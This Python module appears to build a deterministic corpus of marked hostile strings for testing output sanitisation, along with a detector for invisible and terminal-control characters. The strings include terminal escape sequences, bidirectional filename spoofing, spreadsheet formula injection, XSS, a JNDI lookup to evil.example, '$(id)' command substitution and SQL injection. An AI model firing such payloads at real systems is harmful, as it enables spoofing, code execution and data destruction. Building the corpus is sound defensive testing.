"""One corpus of texts that attack whoever shows them, and what is left of an attack.

Built by combination and the same at every run. A payload holds a mark of its own: a
sink that shows the mark was handed the payload, and did not pass by dropping it.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from itertools import product
from typing import Final

_ESC, _ST, _BEL = "\x1b", "\x1b\\", "\x07"
#: C1 controls say in one character what ESC and a letter say in two.
_C1: Final = dict(zip("[]P_^X", "\x9b\x9d\x90\x9f\x9e\x98", strict=True))

_CSI = (
    *("31m", "2J", "3J", "H", "?1049h", "?1049l", "?25l", "6n", "c", ">q", "21t"),
    *("999D", "999A", "5i", "!p", "?2004l", "?1003h", "1;1r", "8m", "s", "u", "10X"),
)
_OSC = (
    *("0;owned", "1;owned", "2;owned", "4;1;?", "7;file:", "9;owned", "10;?", "11;?"),
    *("8;;http://evil.example", "52;c;aGk=", "52;p;?", "104", "133;A"),
    *("777;notify;a;b", "1337;File=inline=1:aGk=", "50;?", "3008;start=x"),
)
_STRINGS = ('P$q"p', "P+q544e", "Ptmux;x", "P0;1q#0", "_Gi=1;AAAA", "^secret", "Xstart")
_ENDS = (_BEL, _ST, "\x9c", "")

#: Attacks by what they try. A mark comes behind or before them.
_ATTACKS: Final[Mapping[str, tuple[str, ...]]] = {
    "control sequence": tuple(
        start + rest for start, rest in product((f"{_ESC}[", _C1["["]), _CSI)
    ),
    "operating system command": tuple(
        f"{start}{rest}{_ENDS[number % 4]}"
        for start in (f"{_ESC}]", _C1["]"])
        for number, rest in enumerate(_OSC)
    ),
    "control string": tuple(
        (f"{_ESC}{one}" if spelled else _C1[one[0]] + one[1:]) + _ENDS[number % 3]
        for number, (one, spelled) in enumerate(product(_STRINGS, (True, False)))
    ),
    "escape": tuple(
        f"{_ESC}{one}" for one in ("", "c", "D", "M", "=", "#8", "7", "(0")
    ),
    "control": tuple(
        chr(one) for one in (0, 5, 7, 14, 15, 17, 19, 26, 27, 127, 0x84, 0x8D, 0x9C)
    ),
    "overwriting": ("evil\b\b\b\b", "evil\rgood", "a\x1b[1Db", "\b" * 20, "x\x7f\x7f"),
    "line end": ("\n", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\n\n\n", "\t"),
    "bidirectional": tuple(
        f"gpj{chr(one)}exe."
        for one in (
            *(0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069),
            *(0x200E, 0x200F, 0x61C),
        )
    ),
    "no width": tuple(
        f"a{chr(one)}b"
        for one in (
            *(0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064),
            *(0xFEFF, 0xAD, 0x180E, 0x34F, 0x115F, 0x1160, 0x3164, 0xFFA0, 0x17B4),
        )
    ),
    "selector or tag": (
        *("a\ufe00", "a\ufe0e", "a\ufe0f", "a\U000e0100", "a\U000e01ef"),
        *("\U000e0001", "\U000e0041\U000e007f", "\U000e0020" * 30),
    ),
    "half a character": (
        "\ud800",
        "\udfff",
        "\udc9b31m",
        "\udc1b[2J",
        "\udcc2\udc9b2J",
    ),
    "nobody's character": (
        "\ue000",
        "\U000f0000",
        "\U0010fffd",
        "\u0378",
        "\U0010ffff",
    ),
    "pile of marks": (
        *("e" + "\u0301" * 40, "\u0301\u0302", "a\u20dd\u0489\u20e3", "o\u0336" * 9),
        "".join(f"x{chr(0x300 + one)}" * 3 for one in range(12)),
    ),
    "width": (
        *(
            "한글 ガギグ",
            "\uff21\uff22\uff23",
            "①°±§",
            "👨\u200d👩\u200d👧",
            "🇩🇪",
            "👍🏽",
            "\ufdfd",
        ),
        *("🏳\ufe0f\u200d🌈", "1\ufe0f\u20e3", "\U0001242b", "\u3000"),
    ),
    "markup": (
        *(
            "[bold]",
            "[/]",
            "[/bold]",
            "[red on blue]",
            "[link=http://evil.example]x[/]",
        ),
        *("[@click=app.quit]x[/]", "[blink]", "\\[bold]", "[$primary]", "[[x]]", "[on"),
        *("[@click='app.bell']", ":warning:", "[#ff0000]", "[/@click]"),
    ),
    "formula": (
        *("=1+1", '=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "-2+3"),
        *("@SUM(1)", "\t=1", "\r=1", "|calc", "%0A=1", "\uff1d1"),
    ),
    "markup language": (
        *("<script>alert(1)</script>", "&lt;", "&#27;[2J", "&#x202e;", "]]>", "<!--"),
        *("<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "\"'><svg onload=x>", "<?xml?>"),
        *("<a xlink:href='javascript:x'>", "<image href='http://evil.example'/>"),
        "</text>",
    ),
    "template": (
        *("${contact}", "${env:HOME}", "${jndi:ldap://evil.example}", "{{7*7}}"),
        *("%s%n%x", "%(name)s", "{0.__class__}", "{self!r:>999}", "{", "%", "$(id)"),
        *("#{7*7}", "`id`", "\\x1b[31m", "\\u202e", "\\N{ESCAPE}", "\\033[2J", "\\"),
    ),
    "statement": ("' OR 1=1 --", '"; DROP TABLE run; --', "%27", "?1", ":name", "-- x"),
    "option": ("--yes", "-o", "@file", "~", "*", "..", "con"),
}
_PLACES: Final = ("{0}{1}", "{1} {0}z", "{0}{0}{1}")

#: Blank letters, which have a category of visible ones.
_BLANKS: Final = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0")
_UNSEEN: Final = frozenset({"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"})
_LETTERS: Final = "bcdfghjkmnpqrstvwxyz"
_MARK: Final = re.compile(f"zq[{_LETTERS}]{{3}}")
_MOST_MARKS: Final = 4


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text.

    Attributes:
        kind: What it tries.
        mark: Five letters that stand in no other payload.
    """

    kind: str
    text: str
    mark: str

    @property
    def is_unicode(self) -> bool:
        """Whether a file of UTF-8 can hold it."""
        return not any("\ud800" <= char <= "\udfff" for char in self.text)

    @property
    def is_line(self) -> bool:
        """Whether it ends no line, to whoever counts lines."""
        return len(f"{self.text}x".splitlines()) == 1

    @property
    def is_name(self) -> bool:
        """Whether a file can be called so."""
        return "/" not in self.text and "\0" not in self.text


def _mark(number: int) -> str:
    letters = []
    for _ in range(3):
        number, place = divmod(number, len(_LETTERS))
        letters.append(_LETTERS[place])
    return "zq" + "".join(letters)


def _payloads() -> Iterator[Payload]:
    number = 0
    for kind, attacks in _ATTACKS.items():
        for attack, place in product(attacks, _PLACES):
            mark = _mark(number)
            yield Payload(kind, place.format(attack, mark), mark)
            number += 1


PAYLOADS: Final = tuple(_payloads())
KINDS: Final = tuple(_ATTACKS)


def marks_in(text: str) -> set[str]:
    """Return the marks of the payloads that stand in a text."""
    return set(_MARK.findall(text))


def marks_of(payloads: Iterable[Payload]) -> set[str]:
    """Return the marks of payloads."""
    return {one.mark for one in payloads}


def traces(text: str) -> set[str]:
    """Return what in *text* a terminal obeys or a reader cannot see, but line ends.

    A mark on top of four others is one: it paints over the lines around it.
    """
    found = set()
    piled = 0
    for char in text:
        category = unicodedata.category(char)
        piled = piled + 1 if category in ("Mn", "Me") else 0
        is_unseen = category in _UNSEEN and char != "\n"
        if is_unseen or char in _BLANKS or _is_selector(char) or piled > _MOST_MARKS:
            found.add(char)
    return found


def _is_selector(char: str) -> bool:
    return "\ufe00" <= char <= "\ufe0f" or "\U000e0000" <= char <= "\U000e01ef"
